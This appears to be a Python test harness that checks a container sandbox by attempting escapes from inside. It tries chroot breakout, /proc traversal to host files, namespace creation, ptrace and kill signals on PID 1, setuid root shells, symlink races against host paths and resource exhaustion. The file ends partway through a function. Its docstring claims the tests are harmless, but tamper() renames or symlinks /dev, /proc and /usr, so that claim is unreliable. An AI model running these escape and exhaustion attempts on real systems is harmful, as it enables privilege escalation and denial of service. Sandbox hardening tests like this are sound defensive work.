"""What hostile code tries, from inside. `inside.py NAME [ARGUMENT…]` prints one line at the end:
HELD, BROKEN or SKIPPED, and what was seen. Nothing here damages a host on which it succeeds: files are
opened and not written, calls have arguments that cannot work, and what is filled up is freed.
"""
import ctypes, errno, fcntl, glob, os, platform, resource, select, signal, socket, struct, sys, time

libc = ctypes.CDLL(None, use_errno=True)
NEWNS, NEWCGROUP, NEWUTS, NEWIPC, NEWUSER, NEWPID, NEWNET = (
    0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000)


def call(number, *words):
    """The error number of a system call, 0 when it worked."""
    words = [ctypes.c_long(w) if isinstance(w, int) else w for w in words]
    return ctypes.get_errno() if libc.syscall(ctypes.c_long(number), *words) < 0 else 0


def refused(tries):
    """`tries` are (name, function); any that does not raise OSError is a hole."""
    through = []
    for name, one in tries:
        try:
            one()
            through.append(name)
        except OSError:
            pass
    return verdict(through, f"{len(tries)} ways refused")


def verdict(through, said):
    if through:
        return False, "got through: " + ", ".join(map(str, through[:8]))
    return True, said


def in_child(work):
    """Runs `work` in a child, which may die of it: (its text, its wait status)."""
    ours, theirs = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(ours)
        try:
            os.write(theirs, str(work()).encode())
        except BaseException as error:
            os.write(theirs, f"error: {error!r}".encode())
        os._exit(0)
    os.close(theirs)
    with os.fdopen(ours) as pipe:
        text = pipe.read()
    return text, os.waitpid(pid, 0)[1]


def opened(path, flags):
    os.close(os.open(path, flags | os.O_NOFOLLOW | os.O_NONBLOCK | os.O_CLOEXEC))


def writable_below(top, most=60000, but=()):
    found, seen = [], 0
    for base, directories, names in os.walk(top):
        directories[:] = [d for d in directories if os.path.join(base, d) not in but]
        for name in names:
            path, seen = os.path.join(base, name), seen + 1
            try:
                opened(path, os.O_WRONLY)
                found.append(path)
            except OSError:
                pass
            if seen >= most:
                return found, seen
    return found, seen


# ---- files

def host_files(mark):
    up = "../" * 16
    ways = [mark, "/.." + mark, f"/proc/1/root{mark}", f"/proc/1/cwd/{up}{mark}",
            f"/proc/self/root/{up}{mark}", f"/proc/self/cwd/{up}{mark}", f"/sys/fs/cgroup/{up}{mark}",
            f"/dev/{up}{mark}", f"/usr/{up}{mark}", f"/workspace/{up}{mark}"]
    ways += [f"/proc/{pid}/fd/{fd}/{up}{mark}" for pid in (1, "self") for fd in range(32)]
    return refused([(way, lambda way=way: opened(way, os.O_RDONLY)) for way in ways])


def chroot_breakout(mark):
    def work():
        os.makedirs("/tmp/jail", exist_ok=True)
        top = os.open("/", os.O_RDONLY)
        os.chroot("/tmp/jail")
        os.fchdir(top)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        return os.path.exists(mark)
    text, _ = in_child(work)
    return text != "True", "the top of a broken chroot is the sandbox's own root: " + text


def descriptors(mark):
    odd = []
    for link in glob.glob("/proc/[0-9]*/fd/*"):
        try:
            target = os.readlink(link)
            if os.path.isdir(link) and f"/proc/{os.getpid()}/" not in target and target != "/workspace":
                odd.append(f"{link}={target}")
        except OSError:
            pass
    inherited = [fd for fd in os.listdir("/proc/self/fd") if int(fd) > 3]
    return verdict(odd + inherited, "a command has its three, and sees those of nobody else")


def guest_program(_mark):
    tries = [(f"{pid}", lambda pid=pid: opened_through(f"/proc/{pid}/exe")) for pid in pids()]
    path = "/tmp/through-exe"
    with open(path, "w") as script:
        script.write("#!/proc/self/exe\n")
    os.chmod(path, 0o755)
    return refused(tries)


def opened_through(path):
    os.close(os.open(path, os.O_WRONLY))


def pids():
    return [int(name) for name in os.listdir("/proc") if name.isdigit()]


def proc_writes():
    found, seen = writable_below("/proc/sys")
    alone = ["/proc/sysrq-trigger", "/proc/kcore", "/proc/kmsg", "/proc/keys", "/proc/timer_list",
             "/proc/1/mem", "/proc/kpagecount", "/proc/mtrr"]
    for path in alone:
        try:
            fd = os.open(path, os.O_WRONLY)
            if not os.path.samestat(os.fstat(fd), os.stat("/dev/null")):
                found.append(path)
            os.close(fd)
        except OSError:
            pass
    return verdict(found, f"{seen + len(alone)} files, none opens for writing")


def sys_writes():
    found, seen = writable_below("/sys")
    return verdict(found, f"{seen} files, none opens for writing")


def told(mark):
    leaks = []
    for path in glob.glob("/sys/block/*/loop/backing_file") + glob.glob("/sys/fs/btrfs/*/qgroups"):
        leaks.append(path)
    for path in ("/proc/kcore", "/proc/kmsg", "/proc/timer_list", "/proc/keys", "/proc/interrupts"):
        try:
            with open(path, "rb") as file:
                if file.read(64):
                    leaks.append(path)
        except OSError:
            pass
    with open("/proc/kallsyms") as symbols:
        if any(int(line.split()[0], 16) for line, _ in zip(symbols, range(50))):
            leaks.append("addresses in /proc/kallsyms")
    return verdict(leaks, "no addresses, no other's disks, no kernel log")


def devices():
    tries = []
    for number, (kind, major, minor) in enumerate(
            [(0o020000, 1, 1), (0o020000, 1, 2), (0o060000, 7, 0), (0o060000, 254, 0),
             (0o020000, 10, 229), (0o020000, 5, 1)]):
        for place in ("/tmp", "/workspace", "/dev/shm", "/dev"):
            path = f"{place}/node{number}"
            make = lambda p=path, k=kind, d=os.makedev(major, minor): use_device(p, k, d)
            tries.append((f"{path} {major}:{minor}", make))
    return refused(tries)


def use_device(path, kind, device):
    os.mknod(path, kind | 0o666, device)
    opened(path, os.O_RDONLY)


# ---- namespaces, mounts, identity

def namespaces():
    through = []
    for name, flags in (("user", NEWUSER), ("user+net", NEWUSER | NEWNET), ("net", NEWNET),
                        ("mount", NEWNS), ("pid", NEWPID), ("cgroup", NEWCGROUP), ("uts", NEWUTS)):
        if in_child(lambda f=flags: libc.unshare(f))[0] == "0":
            through.append(f"unshare {name}")
        if platform.machine() == "x86_64":
            args = struct.pack("11Q", flags, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
            for number, words in ((435, (args, len(args))), (56, (flags | 17, 0, 0, 0, 0))):
                pid = libc.syscall(ctypes.c_long(number), *words)
                if pid == 0:
                    os._exit(0)
                if pid > 0:
                    os.waitpid(pid, 0)
                    through.append(f"call {number} {name}")
    for link in glob.glob("/proc/1/ns/*"):
        try:
            fd = os.open(link, os.O_RDONLY)
            if in_child(lambda: libc.setns(fd, 0))[0] == "0":
                through.append(f"setns {link}")
        except OSError:
            pass
    return verdict(through, "unshare, clone, clone3 and setns of every kind refused")


def mount(source, target, kind, flags=0, data=None):
    encode = lambda text: None if text is None else text.encode()
    if libc.mount(encode(source), encode(target), encode(kind), ctypes.c_ulong(flags), encode(data)):
        raise OSError(ctypes.get_errno(), target)


def umount(target):
    if libc.umount2(target.encode(), 2):
        raise OSError(ctypes.get_errno(), target)


BIND, REMOUNT = 4096, 32


def mounts():
    os.makedirs("/tmp/at", exist_ok=True)
    tries = [(kind, lambda k=kind: mount("none", "/tmp/at", k))
             for kind in ("tmpfs", "proc", "sysfs", "overlay", "cgroup", "cgroup2", "debugfs", "mqueue")]
    tries += [(f"remount {path}", lambda p=path: mount(None, p, None, REMOUNT | BIND))
              for path in ("/usr", "/proc/sys", "/sys", "/dev", "/sys/fs/cgroup")]
    tries += [(f"umount {path}", lambda p=path: umount(p))
              for path in ("/proc/sys", "/proc/keys", "/sys/firmware", "/dev", "/usr", "/workspace")]
    tries += [(f"swap {path}", lambda p=path: os.rename(p, p + ".old"))
              for path in ("/usr", "/dev", "/proc", "/sys", "/workspace")]
    return refused(tries)


def user_map():
    tries = [(f"{name}_map", lambda n=name: written(f"/proc/self/{n}_map", b"0 0 1"))
             for name in ("uid", "gid")]
    tries += [(f"become {uid}", lambda u=uid: os.setresuid(u, u, u)) for uid in (65536, 2**31, 2**32 - 2)]
    tries += [("give to 65536", lambda: os.chown("/tmp", 65536, -1))]
    return refused(tries)


def written(path, text):
    fd = os.open(path, os.O_WRONLY)
    try:
        os.write(fd, text)
    finally:
        os.close(fd)


def capabilities():
    with open("/proc/self/status") as status:
        fields = dict(line.split(":", 1) for line in status)
    allowed = 0x800405fb
    through = [name for name in ("CapEff", "CapPrm", "CapBnd", "CapAmb", "CapInh")
               if int(fields[name], 16) & ~allowed]
    header = struct.pack("Ii", 0x20080522, 0)
    everything = struct.pack("6I", *[0xffffffff] * 6)
    if libc.capset(header, everything) == 0:
        through.append("capset")
    if libc.prctl(47, 2, 21, 0, 0) == 0:
        through.append("ambient CAP_SYS_ADMIN")
    return verdict(through, f"only {int(fields['CapEff'], 16):#x} of all, and no more to be had")


def cgroups():
    os.makedirs("/tmp/cg", exist_ok=True)
    tries = [(f"mount {options or 'v2'}", lambda o=options: mount("x", "/tmp/cg", "cgroup" if o else "cgroup2", 0, o))
             for options in (None, "memory", "pids", "rdma")]
    tries += [("make a group", lambda: os.mkdir("/sys/fs/cgroup/x"))]
    tries += [(name, lambda n=name: written(f"/sys/fs/cgroup/{n}", b"0")) for name in
              ("cgroup.procs", "cgroup.subtree_control", "cgroup.max.descendants", "cgroup.freeze", "release_agent")]
    with open("/proc/self/cgroup") as groups:
        if "bastide" in groups.read():
            return False, "the host's paths are in /proc/self/cgroup"
    return refused(tries)


def overlay_marks():
    os.makedirs("/tmp/ovl", exist_ok=True)
    names = ("trusted.overlay.redirect", "trusted.overlay.opaque", "security.capability")
    tries = [(name, lambda n=name: os.setxattr("/tmp/ovl", n, b"y")) for name in names]
    for name in ("user.overlay.redirect", "user.overlay.opaque", "user.overlay.metacopy"):
        try:
            os.setxattr("/tmp/ovl", name, b"/root")
        except OSError:
            pass
    return refused(tries)


# ---- processes

def host_processes(decoy):
    decoy = int(decoy)
    tries = [("kill", lambda: os.kill(decoy, 0)), ("pidfd", lambda: os.close(os.pidfd_open(decoy))),
             ("/proc", lambda: os.listdir(f"/proc/{decoy}/fd"))]
    if decoy in pids():
        return False, "a process of the host is in /proc"
    return refused(tries)


def pid_one():
    through = []
    ptrace = lambda request: libc.ptrace(request, 1, None, None)
    for name, request in (("attach", 16), ("seize", 0x4206)):
        if ptrace(request) == 0:
            through.append(name)
    local, remote = struct.pack("QQ", 0, 0), struct.pack("QQ", 0x400000, 8)
    for name, one in (("process_vm_readv", libc.process_vm_readv), ("process_vm_writev", libc.process_vm_writev)):
        buffer = ctypes.create_string_buffer(8)
        local = struct.pack("QQ", ctypes.addressof(buffer), 8)
        one.restype = ctypes.c_ssize_t
        if one(1, local, ctypes.c_ulong(1), remote, ctypes.c_ulong(1), ctypes.c_ulong(0)) >= 0:
            through.append(name)
    for name in ("mem", "environ", "maps", "fd", "exe", "root", "cwd", "stack", "syscall", "auxv"):
        try:
            path = f"/proc/1/{name}"
            if name in ("exe", "root", "cwd"):
                os.readlink(path)
            elif name == "fd":
                [os.readlink(f"{path}/{fd}") for fd in os.listdir(path)]
            else:
                with open(path, "rb") as file:
                    file.read(1)
            through.append(name)
        except OSError:
            pass
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGABRT, signal.SIGINT, signal.SIGQUIT):
        os.kill(1, number)
    with open("/proc/1/stat") as stat:
        if stat.read().rsplit(")", 1)[1].split()[0] in "TZX":
            through.append("a signal stopped it")
    return verdict(through, "no ptrace, no memory, no descriptors, no deadly signal")


# ---- system calls

CALLS = {
    "io_uring_setup": 425, "io_uring_enter": 426, "bpf": 321, "userfaultfd": 323, "perf_event_open": 298,
    "kexec_load": 246, "kexec_file_load": 320, "init_module": 175, "finit_module": 313,
    "delete_module": 176, "open_by_handle_at": 304, "name_to_handle_at": 303, "swapon": 167,
    "swapoff": 168, "settimeofday": 164, "clock_settime": 227, "adjtimex": 159, "clock_adjtime": 305,
    "acct": 163, "quotactl": 179, "fsopen": 430, "fsmount": 432, "fspick": 433, "open_tree": 428,
    "move_mount": 429, "mount_setattr": 442, "syslog": 103, "iopl": 172, "ioperm": 173,
    "modify_ldt": 154, "vhangup": 153, "lookup_dcookie": 212, "add_key": 248, "request_key": 249,
    "keyctl": 250, "kcmp": 312, "fanotify_init": 300, "move_pages": 279, "migrate_pages": 256,
    "mbind": 237, "set_mempolicy": 238, "io_setup": 206, "pidfd_getfd": 438, "process_madvise": 440,
    "uselib": 134, "ustat": 136, "sysfs": 139, "_sysctl": 156, "nfsservctl": 180, "memfd_secret": 447,
    "quotactl_fd": 443, "set_mempolicy_home_node": 450, "statmount": 457, "listmount": 458,
    "lsm_set_self_attr": 460, "map_shadow_stack": 453,
}
NESTING = {"mount": 165, "umount2": 166, "pivot_root": 155, "setns": 308, "unshare": 272,
           "sethostname": 170, "setdomainname": 171}


def system_calls(nesting="no"):
    if platform.machine() != "x86_64":
        return None, "the numbers are those of x86-64"
    calls = dict(CALLS) if nesting == "yes" else {**CALLS, **NESTING}
    through = [name for name, number in calls.items()
               if call(number, -1, -1, -1, -1, -1) not in (errno.ENOSYS, errno.EPERM)]
    return verdict(through, f"{len(calls)} calls do not exist")


def other_numbers():
    if platform.machine() != "x86_64":
        return None, "only x86-64 has them"
    through = []
    if in_child(lambda: libc.syscall(ctypes.c_long(0x40000000 + 39)))[0] not in ("-1", ""):
        through.append("x32")

    def old_gate():
        import mmap
        # mov eax, 20 (getpid of i386); int 0x80; ret
        code = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(code)
        address = ctypes.addressof(ctypes.c_char.from_buffer(page))
        return ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    text, status = in_child(old_gate)
    if not os.WIFSIGNALED(status) and text != str(-errno.ENOSYS):
        through.append(f"int 0x80 answers {text}")
    return verdict(through, "calls of other architectures end the process or do not exist")


def keyrings():
    if platform.machine() != "x86_64":
        return None, "the numbers are those of x86-64"
    through = [name for name, number in (("add_key", 248), ("request_key", 249), ("keyctl", 250))
               if call(number, 0, -3, 1) != errno.ENOSYS]
    return verdict(through, "there are none")


def sockets():
    tries = []
    for name, family, kind, protocol in (
            ("packet", 17, 3, 3), ("alg", 38, 5, 0), ("vsock", 40, 1, 0), ("xdp", 44, 3, 0),
            ("bluetooth", 31, 3, 1), ("can", 29, 3, 1), ("tipc", 30, 1, 0), ("rds", 21, 5, 0),
            ("key", 15, 3, 2), ("smc", 43, 1, 0), ("raw", 2, 3, 255), ("raw icmp", 2, 3, 1),
            ("raw v6", 10, 3, 58), ("audit", 16, 3, 9), ("netfilter", 16, 3, 12), ("xfrm", 16, 3, 6),
            ("crypto", 16, 3, 21), ("uevent", 16, 3, 15), ("generic", 16, 3, 16), ("diag", 16, 3, 4)):
        tries.append((name, lambda f=family, k=kind, p=protocol: socket.socket(f, k, p).close()))
    return refused(tries)


def netlink():
    through = []
    link = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    link.settimeout(2)
    # A new link of a kind; an address; a route to everywhere.
    kind = lambda name: struct.pack("HH", 4 + 4 + len(name) + 1 + 3, 18) + struct.pack("HH", 4 + len(name), 1) + name + b"\0" * 4
    for name, number, body in (("dummy", 16, bytes(16) + kind(b"dummy")), ("veth", 16, bytes(16) + kind(b"veth")),
                               ("address", 20, struct.pack("BBBBI", 2, 8, 0, 0, 1) + struct.pack("HH4s", 8, 2, b"\x0a\0\0\1")),
                               ("route", 24, struct.pack("BBBBBBBBI", 2, 0, 0, 0, 254, 4, 0, 1, 0))):
        link.send(struct.pack("IHHII", 16 + len(body), number, 0x605, 1, 0) + body)
        answer = link.recv(4096)
        if struct.unpack_from("H", answer, 4)[0] == 2 and struct.unpack_from("i", answer, 16)[0] == 0:
            through.append(name)
    return verdict(through, "links, addresses and routes cannot be made")


def typing():
    import pty, termios
    master, terminal = pty.openpty()
    tries = [("TIOCSTI", lambda: fcntl.ioctl(terminal, termios.TIOCSTI, b"x")),
             ("TIOCLINUX", lambda: fcntl.ioctl(terminal, 0x541C, b"\x03")),
             ("TIOCSTI in 64 bits", lambda: raise_if(call(16, terminal, (1 << 32) | 0x5412, ctypes.c_char_p(b"x"))))]
    return refused(tries if platform.machine() == "x86_64" else tries[:2])


def raise_if(number):
    if number:
        raise OSError(number, os.strerror(number))


# ---- network and neighbours

def network(port, name):
    tries = [(f"{host}:{p}", lambda h=host, p=p: connect(h, int(p))) for host, p in
             (("127.0.0.1", port), ("169.254.169.254", 80), ("1.1.1.1", 443), ("10.0.0.1", 22),
              ("::1", port), ("fe80::1%lo", port), ("0.0.0.0", port))]
    tries += [("abstract", lambda: abstract(name)), ("udp", lambda: datagram("1.1.1.1", 53))]
    tries += [(f"guest's port {p}", lambda p=p: connect("127.0.0.1", p)) for p in (49983, 2468)]
    return refused(tries)


def connect(host, port):
    socket.create_connection((host, port), 1).close()


def abstract(name):
    one = socket.socket(socket.AF_UNIX)
    one.connect("\0" + name)


def datagram(host, port):
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.settimeout(1)
    one.sendto(b"x", (host, port))
    one.recv(1)


def be_neighbour(key):
    """Holds something of every kind that another sandbox might reach, until it is killed."""
    key = int(key)
    for place in ("/workspace", "/tmp", "/dev/shm", "/home/user"):
        with open(f"{place}/secret-{key}", "w") as file:
            file.write("secret")
    held = [socket.socket(socket.AF_UNIX), socket.socket()]
    held[0].bind(f"\0neighbour-{key}")
    held[1].bind(("0.0.0.0", 40001))
    [one.listen() for one in held]
    segment = libc.shmget(key, 4096, 0o1666)
    queue = libc.msgget(key, 0o1666)
    assert segment >= 0 and queue >= 0, "no segment of its own"
    print("HELD ready", flush=True)
    time.sleep(600)


def neighbour(key, other):
    through = []
    key = int(key)
    for place in ("/workspace", "/tmp", "/dev/shm", "/home/user"):
        for path in (f"{place}/secret-{key}", f"{place}/../../{other}/w/secret-{key}"):
            if os.path.exists(path):
                through.append(path)
    for name, one in (("abstract", lambda: abstract(f"neighbour-{key}")), ("tcp", lambda: connect("127.0.0.1", 40001))):
        try:
            one()
            through.append(name)
        except OSError:
            pass
    if libc.shmget(key, 0, 0) >= 0 or libc.msgget(key, 0) >= 0:
        through.append("System V segment")
    return verdict(through, "its files, sockets and segments are not there")


# ---- budgets

def hog(kind):
    """Takes all of one budget and keeps it until it is killed."""
    held = []
    try:
        while len(held) < 120000:
            if kind == "inotify":
                fd = libc.inotify_init1(0)
                raise_if(ctypes.get_errno() if fd < 0 else 0)
                held.append(fd)
            elif kind == "pipes":
                ends = os.pipe()
                held += ends
                fcntl.fcntl(ends[0], 1031, 1 << 20)
            elif kind == "signals":
                pid = os.getpid()
                if not held:
                    signal.pthread_sigmask(signal.SIG_BLOCK, {64})
                info = ctypes.create_string_buffer(struct.pack("iii", 64, 0, -1), 128)
                raise_if(call(129, pid, 64, info))
                held.append(0)
            elif kind == "queues":
                number = libc.msgget(0, 0o1600)
                raise_if(ctypes.get_errno() if number < 0 else 0)
                held.append(number)
    except OSError as error:
        print(f"HELD full after {len(held)}: {os.strerror(error.errno)}", flush=True)
    else:
        print(f"HELD kept {len(held)}", flush=True)
    time.sleep(600)


def lock_shared():
    files = [open(path) for path in ("/dev/null", "/usr/bin/env", "/etc/hosts")]
    for file in files:
        fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
    print("HELD locked", flush=True)
    time.sleep(600)


def watch_shared():
    """Watches what might be the same for others, until a line comes."""
    fd = libc.inotify_init1(os.O_NONBLOCK)
    for path in ("/dev", "/dev/null", "/dev/urandom", "/usr/bin", "/usr/bin/env", "/usr/lib", "/etc", "/sys"):
        raise_if(ctypes.get_errno() if libc.inotify_add_watch(fd, path.encode(), 0xfff) < 0 else 0)
    print("HELD watching", flush=True)
    end, seen = time.time() + 1.5, 0
    while time.time() < end:
        if select.select([fd], [], [], 0.1)[0]:
            seen += len(os.read(fd, 65536))
    return seen == 0, f"{seen} bytes of events of others"


def take_port():
    held = [socket.create_server(("0.0.0.0", port)) for port in (49983, 2468)]
    print("HELD bound", flush=True)
    time.sleep(600)
    del held


def plant(mark):
    """Links over everything that the guest has open, for somebody to read and write through."""
    up = "../" * 16
    os.makedirs("/workspace/links", exist_ok=True)
    for number in range(64):
        for kind, target in (("fd", f"/proc/self/fd/{number}/{up}{mark}"), ("p1", f"/proc/1/fd/{number}/{up}{mark}")):
            os.symlink(target, f"/workspace/links/{kind}{number}")
    for name, target in (("cwd", f"/proc/self/cwd/{up}{mark}"), ("root", f"/proc/self/root/{up}{mark}"),
                         ("cgroup", f"/sys/fs/cgroup/{up}{mark}"), ("plain", mark), ("task", f"/proc/thread-self/fd/4/{up}{mark}")):
        os.symlink(target, f"/workspace/links/{name}")
    return True, f"{len(os.listdir('/workspace/links'))} links"


def swap(mark):
    """A file and a directory that are links to the host every other moment, whoever looks."""
    folder, name = os.path.split(mark)
    up = "../" * 16
    ways = [f"/proc/self/fd/{number}/{up}{folder}" for number in range(3, 8)] + [folder, f"/proc/1/root{folder}"]
    os.makedirs("/workspace/race", exist_ok=True)
    os.chdir("/workspace/race")
    def exchange(one, other):
        raise_if(call(316, -100, one, -100, other, 2))
    for turn in range(1 << 30):
        # Large, because large files are handed to the host as open files; written over by those who write.
        for path in ("file", f"folder/{name}"):
            try:
                os.makedirs("folder", exist_ok=True)
                with open(path, "xb") as file:
                    file.write(bytes(1 << 21))
            except OSError:
                pass
        for link, target in (("file.link", f"{ways[turn % len(ways)]}/{name}"), ("folder.link", ways[turn % len(ways)])):
            try:
                os.symlink(target, link + ".new")
                os.rename(link + ".new", link)
            except OSError:
                pass
        for again in range(8):
            for path in (b"file", b"folder"):
                exchange(path, path + b".link")
        if turn == 0:
            print("HELD swapping", flush=True)


def setuid():
    import shutil
    for path in ("/workspace/shell", "/tmp/shell", "/home/user/shell"):
        shutil.copy("/bin/sh", path)
        os.chown(path, 0, 0)
        os.chmod(path, 0o6755)
    return True, "made"


def tamper():
    """What a start builds on, made to lead elsewhere, as far as that goes."""
    for name in ("dev", "proc", "sys", "usr", "workspace", "mnt", "tmp", "etc", "run"):
        for one in (lambda: os.rename(f"/{name}", f"/{name}.old"), lambda: os.rmdir(f"/{name}"),
                    lambda: os.symlink("/", f"/{name}")):
            try:
                one()
            except OSError:
                pass
    return True, "done"


def as_before():
    with open("/proc/self/mountinfo") as table:
        at = {line.split()[4]: line.split(" - ")[1].split()[0] for line in table}
    want = {"/proc": "proc", "/sys": "sysfs", "/dev": "tmpfs", "/": "overlay", "/usr": "overlay"}
    wrong = [path for path, kind in want.items() if at.get(path) != kind]
    return verdict(wrong, "every mount is in its place again")


def probe(kind):
    """Whether a budget has anything left for somebody else."""
    def inotify():
        return libc.inotify_init1(0) >= 0

    def pipes():
        return fcntl.fcntl(os.pipe()[0], 1031, 1 << 20) >= 1 << 20

    def signals():
        signal.pthread_sigmask(signal.SIG_BLOCK, {64})
        info = ctypes.create_string_buffer(struct.pack("iii", 64, 0, -1), 128)
        return call(129, os.getpid(), 64, info) == 0

    def queues():
        return libc.msgget(0, 0o1600) >= 0

    has_left, kept, lost = {
        "inotify": (inotify, "it still has its own", "it can make none"),
        "pipes": (pipes, "its pipes are as large as ever", "its pipes stay small"),
        "signals": (signals, "its signals still queue", "its signals queue no more"),
        "queues": (queues, "it still has its own", "it can make none"),
    }[kind]
    try:
        held = has_left()
    except OSError:
        held = False
    return held, kept if held else lost


def open_files(memory_mib):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    through = []
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard + 1))
        through.append(f"raised to {hard + 1}")
    except (OSError, ValueError):
        pass
    held = []
    try:
        while len(held) <= hard:
            held.append(os.open("/dev/null", os.O_RDONLY))
        through.append(f"{len(held)} files")
    except OSError:
        pass
    return verdict(through, f"{len(held) + 4} of one process, and no more")


def socket_buffers(memory_mib):
    server = socket.create_server(("127.0.0.1", 0), backlog=512)
    held, queued = [], 0
    for _ in range(150):
        one = socket.create_connection(server.getsockname())
        two, _ = server.accept()
        one.setblocking(False)
        held += [one, two]
        try:
            while True:
                queued += one.send(bytes(1 << 16))
        except BlockingIOError:
            pass
    most = int(memory_mib) << 19
    return queued < most, f"{queued >> 20} MiB of {memory_mib} in the buffers of 150 connections"


def memory(memory_mib):
    """Eats twice its memory, each page touched, in a child that should be killed for it."""
    def work():
        kept = [bytearray(b"x" * (1 << 20)) for _ in range(2 * int(memory_mib))]
        return len(kept)
    _, status = in_child(work)
    killed = os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGKILL
    return killed, "whoever takes more than there is, is killed inside" if killed else "it got twice its memory"


def shared_memory(memory_mib):
    written, path = 0, "/dev/shm/full"
    try:
        with open(path, "wb", buffering=0) as file:
            for _ in range(2 * int(memory_mib)):
                written += file.write(bytes(1 << 20))
    except OSError:
        pass
    os.unlink(path)
    return written <= 64 << 20, f"full at {written >> 20} MiB"


def forks(most):
    children = []
    try:
        while len(children) < int(most) * 4:
            pid = os.fork()
            if pid == 0:
                time.sleep(120)
                os._exit(0)
            children.append(pid)
    except OSError:
        pass
    for pid in children:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    return len(children) <= int(most), f"the limit of {most} stopped it after {len(children)}"


def disk(disk_gb):
    path, written, most = "/workspace/full", 0, int(disk_gb) << 30
    try:
        with open(path, "wb", buffering=0) as file:
            while written <= most + (64 << 20):
                os.posix_fallocate(file.fileno(), written, 64 << 20)
                written += 64 << 20
    except OSError:
        pass
    full = os.statvfs("/workspace")
    os.unlink(path)
    return written <= most, f"full at {written >> 20} MiB"


def locks():
    held, count = [], 0
    for number in range(25):
        file = open(f"/tmp/locked{number}", "w")
        held.append(file)
        for place in range(0, 4000, 2):
            fcntl.lockf(file, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, place)
            count += 1
    print(f"HELD {count}", flush=True)
    sys.stdin.read()


def volumes():
    """A btrfs subvolume of one's own would lie outside the limit of the disk."""
    through = []
    for name, request, words in (("make", 0x5000940E, struct.pack("q4088s", 0, b"mine")),
                                 ("snapshot", 0x50009401, struct.pack("q4088s", 0, b"mine")),
                                 ("destroy", 0x5000940F, struct.pack("q4088s", 0, b"mine")),
                                 ("limit", 0x8030942B, bytes(48)), ("quota", 0xC0109428, bytes(16))):
        top = os.open("/workspace", os.O_RDONLY)
        try:
            fcntl.ioctl(top, request, bytearray(words))
            through.append(name)
        except OSError as error:
            if error.errno not in (errno.ENOSYS, errno.ENOTTY, errno.EPERM):
                through.append(f"{name}: {error}")
        os.close(top)
    return verdict(through, "volumes and their limits are out of reach")


# ---- with `nesting`

def nested(work):
    """As root of new namespaces of every kind."""
    def outer():
        uid, gid = os.getuid(), os.getgid()
        raise_if(0 if libc.unshare(NEWUSER | NEWNS | NEWPID | NEWNET | NEWIPC | NEWUTS | NEWCGROUP) == 0 else ctypes.get_errno())
        written("/proc/self/setgroups", b"deny")
        written("/proc/self/uid_map", b"0 %d 1" % uid)
        written("/proc/self/gid_map", b"0 %d 1" % gid)
        return in_child(work)[0]
    return in_child(outer)[0]


def nesting_works():
    def work():
        mount("none", "/", None, 0x4000 | 0x40000)
        mount("proc", "/proc", "proc")
        mount("none", "/mnt", "tmpfs")
        return f"pid {os.getpid()} of {len(pids())}"
    text = nested(work)
    return text == "pid 1 of 1", text


def nested_root():
    def work():
        through = []
        mount("none", "/", None, 0x4000 | 0x40000)
        mount("proc", "/proc", "proc")
        mount("none", "/mnt", "tmpfs")
        os.makedirs("/mnt/at")
        tries = [(f"write {path}", lambda p=path: opened(p, os.O_WRONLY)) for path in (
            "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/panic",
            "/proc/sys/vm/drop_caches", "/proc/sys/fs/file-max", "/proc/sys/kernel/sysrq",
            "/proc/sys/vm/overcommit_memory", "/proc/sysrq-trigger", "/proc/sys/kernel/hotplug",
            "/dev/.proc/sysrq-trigger", "/dev/.proc/sys/kernel/core_pattern")]
        tries += [(f"device {major}:{minor}", lambda j=major, n=minor: use_device("/mnt/node", 0o060000, os.makedev(j, n)))
                  for major, minor in ((7, 0), (254, 0))]
        tries += [(f"remount {path}", lambda p=path: mount(None, p, None, REMOUNT | BIND))
                  for path in ("/usr", "/sys", "/dev", "/sys/fs/cgroup")]
        tries += [(f"umount {path}", lambda p=path: umount(p)) for path in ("/sys/firmware", "/sys/fs/btrfs", "/dev", "/usr")]
        tries += [(f"mount {kind}", lambda k=kind: mount("/dev/loop0", "/mnt/at", k)) for kind in ("ext4", "btrfs", "xfs", "squashfs", "debugfs", "tracefs", "securityfs", "devtmpfs", "bpf", "hugetlbfs")]
        tries += [("kmsg", lambda: opened("/proc/kmsg", os.O_RDONLY)), ("kcore", lambda: opened("/proc/kcore", os.O_RDONLY))]
        for name, one in tries:
            try:
                one()
                through.append(name)
            except OSError:
                pass
        return through or f"{len(tries)} ways refused"
    text = nested(work)
    return text.endswith("ways refused"), text


def nested_cgroups():
    """Version 2 is the command's own group, whose limits lie above it; version 1 has the limits."""
    def work():
        through, seen = [], 0
        mount("none", "/", None, 0x4000 | 0x40000)
        mount("none", "/mnt", "tmpfs")
        for options in ("memory", "pids", "cpu", "devices", "blkio", None):
            place = f"/mnt/{options}"
            os.makedirs(place)
            try:
                mount("x", place, "cgroup" if options else "cgroup2", 0, options)
            except OSError:
                continue
            seen += 1
            if options is None:
                tries = [(name, lambda n=name: written(f"{place}/{n}", b"max")) for name in os.listdir(place)
                         if name.startswith(("memory.", "pids.", "cpu.", "io."))]
                tries += [("up", lambda: written(f"{place}/../cgroup.procs", b"0"))]
            else:
                tries = [(name, lambda n=name: opened(f"{place}/{n}", os.O_WRONLY)) for name in os.listdir(place)]
                tries += [("make", lambda: os.mkdir(f"{place}/x"))]
            for name, one in tries:
                try:
                    one()
                    through.append(f"{options}: {name}")
                except OSError:
                    pass
        return through or f"{seen} could be mounted, none written"
    text = nested(work)
    return text.endswith("none written"), text


def namespace_flood():
    made, children = 0, []
    ours, theirs = os.pipe()
    for _ in range(90):
        pid = os.fork()
